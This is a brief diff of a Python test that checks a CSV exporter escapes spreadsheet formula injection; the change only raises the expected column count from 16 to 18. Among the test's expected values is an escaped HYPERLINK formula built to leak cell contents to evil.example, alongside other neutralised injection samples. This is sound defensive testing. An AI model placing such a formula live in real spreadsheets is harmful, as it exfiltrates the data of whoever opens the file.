@@ -217,7 +217,7 @@ def test_hostile_csv_runs_no_formula(hostile):
     rows = list(csv.reader(io.StringIO(out[1:], newline="")))
     cells = [c for r in rows[1:] for c in r]
     n = len(hostile.paragraphs("hostile"))
-    assert len(rows) == 1 + n + 1 and all(len(r) == 16 for r in rows)
+    assert len(rows) == 1 + n + 1 and all(len(r) == 18 for r in rows)
     assert not [c for c in cells if c.startswith(FORMULA_START)]
     assert "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click for details\")" in cells
     assert "'@evil" in cells and "'-minus" in cells and "'=1+1; <i>t</i>" in cells
